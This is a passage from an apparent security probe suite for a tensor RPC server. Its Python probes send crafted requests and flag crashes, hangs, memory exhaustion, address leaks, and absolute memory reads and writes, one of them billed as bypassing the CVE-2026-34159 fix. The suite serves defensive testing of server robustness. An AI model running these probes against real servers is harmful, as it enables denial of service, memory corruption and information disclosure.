            while sent < len(todo) and time.monotonic() < deadline:
                _, wr, _ = select.select([], [w.sock], [], 0.2)
                if wr:
                    try:
                        sent += w.sock.send(todo[sent:sent + (1 << 20)])
                    except (BlockingIOError, InterruptedError):
                        pass
        except OSError:
            ctx.note(f"connection {i} closed while sending")
        finally:
            w.sock.setblocking(True)
    time.sleep(0.5)
    grown = ctx.memory_growth(rss0)
    ctx.note(f"memory grew by {grown / MIB:.0f} MiB for {n} x {size / MIB:.0f} MiB partial messages")
    if grown is not None and grown > n * size * 0.6:
        ctx.flag(Outcome.MEMORY, f"{grown / MIB:.0f} MiB held for {n} partial messages of "
                                 f"{size / MIB:.0f} MiB: no bound across connections")


@probe("H21", "ALLOC_BUFFER of 2 GiB, then BUFFER_CLEAR (no quota)",
       CATALOGUE + "h21", "spec/commands.md#alloc_buffer-0", "memory",
       "granted and committed (+2 GiB)", needs_process=True)
def p_alloc_huge(ctx):
    w = ctx.connect()
    reply = w.call(m.AllocBufferRequest(0, 2 << 30))
    if not reply.handle:
        ctx.note("2 GiB refused with the failed-allocation reply")
        return
    w.timeout = 30
    w.sock.settimeout(30)
    w.call(m.BufferClearRequest(reply.handle, 0x55))
    w.answers()
    ctx.flag(Outcome.MEMORY, "one anonymous client was granted and committed 2 GiB")


@probe("H22", "GRAPH_COMPUTE of 4 Mi unknown node ids (arena amplification)",
       CATALOGUE + "h22", "spec/graph.md#checks", "memory",
       "~400 bytes of arena per 8-byte node before validation (1.7 GiB peak)",
       needs_process=True)
def p_graph_amplification(ctx, n_nodes: int = 1 << 22):
    w = ctx.connect()
    payload = struct.pack("<II", 0, n_nodes) + struct.pack("<Q", 12345) * n_nodes + \
        struct.pack("<I", 0)
    w.sock.settimeout(30)
    w.send_raw(frame(Command.GRAPH_COMPUTE, payload))
    ctx.expect_closed_or_answer(w, f"graph of {n_nodes} unknown nodes")


@probe("H23", "graph whose shapes ask for a 7.7e16-byte work buffer",
       CATALOGUE + "h23", "spec/graph.md#checks", "crash",
       "new[] throws bad_alloc, uncaught: SIGABRT")
def p_work_buffer(ctx):
    w = ctx.connect()
    # MUL_MAT plans a work buffer of row_size(vec_dot_type, nelements(src1)); nothing is run
    # (no compute flag) and nothing lives in a buffer.
    w.graph_compute([62], [T(id=60, type=Q8_0, ne=(32,), nb=(34, 34, 34, 34)),
                           T(id=61, ne=(32, 1 << 31, 1 << 20, 1), nb=(4, 128, 0, 0)),
                           T(id=62, ne=(1, 1 << 31, 1 << 20, 1), nb=(4, 4, 0, 0), op=OP_MUL_MAT,
                             src=(60, 61))])
    ctx.expect_closed_or_answer(w, "graph with a huge planned work size")


@probe("H24i", "an idle client starves every other client",
       ISSUE + "28908", "docs/limits.md", "hang",
       "one client at a time: the second HELLO gets no answer", needs=("timeouts",))
def p_idle_starves(ctx):
    a = ctx.connect()
    try:
        b = ctx.connect(timeout=3)
        b.answers()
        ctx.note("a second client is served while the first idles")
    except (NoAnswer, socket.timeout, TimeoutError):
        ctx.flag(Outcome.HANG, "a second client got no HELLO reply in 3 s while the first idled")
        return
    if ctx.knows_timeouts:
        if not _closed_within(a, 6):
            ctx.flag(Outcome.HANG, "an idle connection was not closed by the idle timeout")


def _closed_within(w: Wire, seconds: float) -> bool:
    try:
        return w.closed_by_server(timeout=seconds)
    except NoAnswer:
        return False


@probe("H24d", "a slow-drip client (one byte at a time) holds a connection",
       ISSUE + "28908", "docs/limits.md", "hang",
       "one client at a time: a dripping header blocks everyone", needs=("timeouts",))
def p_slow_drip(ctx):
    s = ctx.raw()
    hello = frame(Command.HELLO, bytes(24))
    s.sendall(hello[:1])
    try:
        b = ctx.connect(timeout=3)
        b.answers()
    except (NoAnswer, socket.timeout, TimeoutError):
        ctx.flag(Outcome.HANG, "another client got no HELLO reply in 3 s during the drip")
        return
    if not ctx.knows_timeouts:
        return
    # keep dripping (a byte every 0.3 s: never idle long enough for a per-byte timeout)
    deadline = time.monotonic() + 8
    for byte in hello[1:]:
        if time.monotonic() > deadline:
            break
        try:
            s.sendall(bytes([byte]))
        except OSError:
            ctx.note("the dripping connection was closed by the server")
            return
        r, _, _ = select.select([s], [], [], 0.3)
        if r:
            try:
                if s.recv(1 << 16) == b"":
                    ctx.note("the dripping connection was closed by the server")
                    return
            except OSError:
                ctx.note("the dripping connection was reset by the server")
                return
    ctx.flag(Outcome.HANG, "a connection dripping one byte per 0.3 s was never closed")


@probe("H24m", "a flood of connections that never speak",
       ISSUE + "28908", "docs/limits.md", "hang",
       "queued in a backlog of 1: a new client neither served nor refused")
def p_many_connections(ctx, n: int = 100):
    socks = []
    try:
        for _ in range(n):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(ctx.target.address)
            socks.append(s)
        time.sleep(0.5)
        try:
            c = ctx.connect(timeout=3)
            c.answers()
            ctx.note("a new client was served during the flood")
        except Closed:
            ctx.note("a new client was refused at once during the flood")
        except (NoAnswer, socket.timeout, TimeoutError):
            ctx.flag(Outcome.HANG, f"with {n} silent connections open, a new client was "
                                   f"neither served nor refused within 3 s")
    finally:
        for s in socks:
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                s.close()
            except OSError:
                pass


@probe("H25", "client closes (FIN) before reading its reply: SIGPIPE",
       CATALOGUE + "h25", "spec/errors.md#the-rule", "crash",
       "send() without MSG_NOSIGNAL: killed by SIGPIPE")
def p_sigpipe(ctx):
    s = socket.create_connection(ctx.target.address, timeout=ctx.answer_timeout)
    s.sendall(frame(Command.HELLO, bytes(24)))
    s.close()
    time.sleep(0.3)
    if ctx.target.proc is not None and ctx.target.proc.poll() is not None:
        return
    w, h, base = _buffer(ctx, 8 * MIB)
    w.send_raw(frame(Command.GET_TENSOR, T(type=24, buffer=h, data=base, ne=(8 * MIB,),
                                           nb=(1, 8 * MIB, 8 * MIB, 8 * MIB)).encode()
                     + struct.pack("<QQ", 0, 8 * MIB)))
    w.sock.close()
    time.sleep(0.3)


@probe("H26", "SET_TENSOR / GET_TENSOR region beyond the tensor but inside the buffer",
       CATALOGUE + "h26", "spec/tensor.md#placement", "crash",
       "ggml_backend_tensor_set/get assert: SIGABRT")
def p_region_beyond_tensor(ctx):
    w, h, base = _buffer(ctx)
    w.set_tensor(T(buffer=h, data=base, ne=(1,)), b"A" * 16)
    if not ctx.expect_closed_or_answer(w, "SET_TENSOR beyond the tensor"):
        if ctx.target.proc is not None and ctx.target.proc.poll() is not None:
            return
    w, h, base = _buffer(ctx)
    w.call(m.GetTensorRequest(T(buffer=h, data=base, ne=(1,)), 0, 16))
    ctx.note("GET_TENSOR beyond the tensor answered")


@probe("H27", "element count beyond INT64_MAX",
       CATALOGUE + "h27", "spec/tensor.md#validity", "crash",
       "GGML_ASSERT in ggml_new_tensor_impl: SIGABRT")
def p_nelements_overflow(ctx):
    w = ctx.connect()
    w.set_tensor(T(ne=(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 1), nb=(4, 4, 4, 4)), b"")
    ctx.expect_closed_or_answer(w, "tensor with 2^96 elements")


@probe("H28", "byte span that wraps around 2^64 (a 2^64-byte tensor seen as 3 bytes)",
       CATALOGUE + "h28", "spec/tensor.md#byte-span-nbytes", "crash",
       "bounds check defeated, SET_ROWS writes 4 GiB away: SIGSEGV")
def p_nbytes_wrap(ctx):
    w, h, base = _buffer(ctx)
    ne, nb = (1, 0xFFFFFFFF, 4, 1), (4, 0xFFFFFFFF, 0xFFFFFFFF, 4)
    w.set_tensor(T(buffer=h, data=base, ne=ne, nb=nb), b"xyz")
    if not ctx.expect_closed_or_answer(w, "SET_TENSOR into the wrapping tensor"):
        return
    w.set_tensor(T(type=I64, buffer=h, data=base + 32, ne=(1,)), struct.pack("<q", 1))
    src0 = T(id=50, buffer=h, data=base + 16, ne=(1, 1, 4, 1), nb=(4, 4, 4, 16))
    idx = T(id=51, type=I64, buffer=h, data=base + 32, ne=(1,))
    dst = T(id=52, buffer=h, data=base, ne=ne, nb=nb, op=OP_SET_ROWS, src=(50, 51),
            flags=FLAG_COMPUTE)
    w.graph_compute([52], [src0, idx, dst])
    ctx.expect_closed_or_answer(w, "SET_ROWS into the wrapping tensor")


@probe("H29", "the same node id twice in the node list",
       CATALOGUE + "h29", "spec/graph.md#checks", "safe",
       "a 4-byte write before use_counts[], not observable")
def p_duplicate_node(ctx):
    w, h, base = _buffer(ctx)
    w.graph_compute([1, 1], [T(id=1, buffer=h, data=base, ne=(4,), use_count=0x41414141)])
    ctx.expect_closed_or_answer(w, "duplicate node ids")


@probe("H30", "cached entry larger than the tensor it is loaded into",
       PR + "28789", "spec/hash-cache.md#server-behaviour", "crash",
       "ggml_backend_tensor_set asserts: SIGABRT", needs=("cache",))
def p_cache_bigger_than_tensor(ctx):
    if ctx.target.cache_dir is None:
        raise Unobservable("needs a server started with its hash cache in a known directory")
    w, h, base = _buffer(ctx)
    payload = bytes(range(64))
    w.set_tensor(T(buffer=h, data=base, ne=(16,)), payload, cache_flag=1)
    w.answers()
    reply = w.call(m.SetTensorHashRequest(T(buffer=h, data=base, ne=(1,)), 0, fnv1a_64(payload)))
    ctx.note(f"SET_TENSOR_HASH answered {reply.result}")


@probe("H30d", "hash cache filled by any client (cache_flag = 1)",
       ISSUE + "27585", "spec/hash-cache.md#security", "memory",
       "every flagged upload is stored, without bound", needs=("cache",))
def p_cache_fill(ctx, n: int = 16):
    if ctx.target.cache_dir is None:
        raise Unobservable("needs a server started with its hash cache in a known directory")
    w, h, base = _buffer(ctx, MIB)
    t = T(type=24, buffer=h, data=base, ne=(MIB,), nb=(1, MIB, MIB, MIB))
    for i in range(n):
        w.set_tensor(t, struct.pack("<I", i) * (MIB // 4), cache_flag=1)
    w.answers()
    time.sleep(0.2)
    used = sum(f.stat().st_size for f in Path(ctx.target.cache_dir).glob("*") if f.is_file())
    ctx.note(f"cache holds {used / MIB:.1f} MiB after {n} MiB of flagged uploads")
    if used > n * MIB // 2:
        ctx.flag(Outcome.MEMORY, f"the cache disk grew by {used / MIB:.0f} MiB for {n} flagged "
                                 f"uploads: no bound")


@probe("H31", "INIT_TENSOR / GET_ALLOC_SIZE of a block tensor at the end of its buffer",
       CATALOGUE + "h31", "spec/commands.md#init_tensor-12", "safe",
       "CPU backend: no padding written (the CUDA backend writes past the buffer)")
def p_init_at_end(ctx):
    w, h, base = _buffer(ctx, 36)
    t = T(type=Q4_0, buffer=h, data=base, ne=(64,), nb=(18, 36, 36, 36))
    w.call(m.InitTensorRequest(t))
    reply = w.call(m.GetAllocSizeRequest(0, T(type=Q4_0, buffer=h, data=base, ne=(64,),
                                              nb=(16, 36, 36, 36))))
    ctx.note(f"GET_ALLOC_SIZE answered {reply.size}")


@probe("H32", "buffer handles and base addresses disclose server memory addresses",
       CATALOGUE + "h32", "spec/handles.md", "leak",
       "handles are heap pointers, bases are data pointers", needs_process=True)
def p_address_disclosure(ctx):
    w = ctx.connect()
    handle, base = w.alloc(4096)
    for what, value in (("handle", handle), ("base address", base)):
        if ctx.target.is_mapped(value):
            ctx.flag(Outcome.LEAK, f"the {what} {value:#x} is an address in the server process")


@probe("N1r", "graph source with buffer 0 and data 0: strides reach any address (read)",
       CATALOGUE + "n1", "spec/graph.md#checks", "leak",
       "bypass of the CVE-2026-34159 fix: absolute read")
def p_nulldata_read(ctx):
    w = ctx.connect()
    wh, wbase = w.alloc(64)
    vh, vbase = w.alloc(1 << 20)
    target = (vbase + 0xFFFF) & ~0xFFFF
    c = Canary(vh, target, canary_bytes(16, 9))
    w.set_tensor(T(buffer=vh, data=target, ne=(4,)), c.data)
    src0 = T(id=30, ne=(4, 0x7FFFFFFF, 1, 1), nb=(4, 0x10000, 0x10000, 0x10000))
    ids = T(id=31, type=I32, buffer=wh, data=wbase, ne=(1,))
    dst = T(id=32, buffer=wh, data=wbase + 16, ne=(4,), op=OP_GET_ROWS, src=(30, 31),
            flags=FLAG_COMPUTE)
    w.set_tensor(T(type=I32, buffer=wh, data=wbase, ne=(1,)), struct.pack("<i", target >> 16))
    w.graph_compute([32], [src0, ids, dst])
    out = w.call(m.GetTensorRequest(T(buffer=wh, data=wbase + 16, ne=(4,)), 0, 16))
    ctx.check_leak(out, c, "GET_ROWS from a buffer-less source")


@probe("N1w", "graph destination with buffer 0 and data 0: strides reach any address (write)",
       CATALOGUE + "n1", "spec/graph.md#checks", "corrupt",
       "bypass of the CVE-2026-34159 fix: absolute write")
def p_nulldata_write(ctx):
    w = ctx.connect()
    wh, wbase = w.alloc(64)
    vh, vbase = w.alloc(1 << 20)
    target = (vbase + 0xFFFF) & ~0xFFFF
    c = Canary(vh, target, canary_bytes(16, 10))
    w.set_tensor(T(type=24, buffer=vh, data=target, ne=(16,), nb=(1, 16, 16, 16)), c.data)
    src0 = T(id=40, buffer=wh, data=wbase, ne=(4,))
    idx = T(id=41, type=I64, buffer=wh, data=wbase + 16, ne=(1,))
    dst = T(id=42, ne=(4, 0xFFFFFFFF, 1, 1), nb=(4, 0x10000, 0x10000, 0x10000), op=OP_SET_ROWS,
            src=(40, 41), flags=FLAG_COMPUTE)
    w.set_tensor(T(buffer=wh, data=wbase, ne=(4,)), f32(66, 77, 88, 99))
    w.set_tensor(T(type=I64, buffer=wh, data=wbase + 16, ne=(1,)), struct.pack("<q", target >> 16))
    w.graph_compute([42], [src0, idx, dst])
    if ctx.expect_closed_or_answer(w, "SET_ROWS into a buffer-less destination"):
        ctx.check_intact(w, Canary(vh, target, c.data), "SET_ROWS through absolute addressing")


@probe("X1", "ADD over 2^38 elements folded into 64 bytes by zero strides",
       CATALOGUE + "x1", "spec/graph-ops.md#common-rules", "hang",
       "2^38 additions: the server is blocked for minutes")
def p_zero_stride_work(ctx):
    w, h, base = _buffer(ctx, 256)
    ne, nb = (16, 1 << 20, 1 << 10, 1 << 4), (4, 0, 0, 0)
    a = T(id=1, buffer=h, data=base, ne=ne, nb=nb)
    b = T(id=2, buffer=h, data=base + 64, ne=ne, nb=nb)
    d = T(id=3, buffer=h, data=base + 128, ne=ne, nb=nb, op=OP_ADD, src=(1, 2),
          flags=FLAG_COMPUTE)
    w.graph_compute([3], [a, b, d])
    ctx.expect_closed_or_answer(w, "ADD of 2^38 zero-stride elements")


@probe("X2", "a million empty buffers (ALLOC_BUFFER of size 0)",
       CATALOGUE + "x2", "docs/limits.md", "memory",
       "each empty buffer costs server memory; no bound on their number",
       needs_process=True, allowance=96 * MIB)
def p_empty_buffers(ctx, n: int = 1_000_000, batch: int = 10_000):
    w = ctx.connect(timeout=30)
    rss0 = ctx.target.rss_bytes()
    request = frame(Command.ALLOC_BUFFER, struct.pack("<IQ", 0, 0))
    granted = 0
    for _ in range(n // batch):
        w.send_raw(request * batch)
        replies = bytearray()
        while len(replies) < 24 * batch:
            chunk = w.recv_some()
            if not chunk:
                raise Closed(f"closed after {granted} empty buffers")
            replies += chunk
        handles = [struct.unpack_from("<Q", replies, 24 * i + 8)[0] for i in range(batch)]
        granted += sum(1 for h in handles if h)
        if not all(handles):
            ctx.note(f"refused after {granted} empty buffers")
            return
    grown = ctx.memory_growth(rss0)
    ctx.note(f"{granted} empty buffers granted, memory grew by {grown / MIB:.0f} MiB")
    if grown is not None and grown > 96 * MIB:
        ctx.flag(Outcome.MEMORY, f"{granted} empty buffers cost {grown / MIB:.0f} MiB of server "
                                 f"memory for 0 bytes granted")


def by_id() -> dict[str, Probe]:
    """The catalogue keyed by probe id."""
    return {p.id: p for p in PROBES}
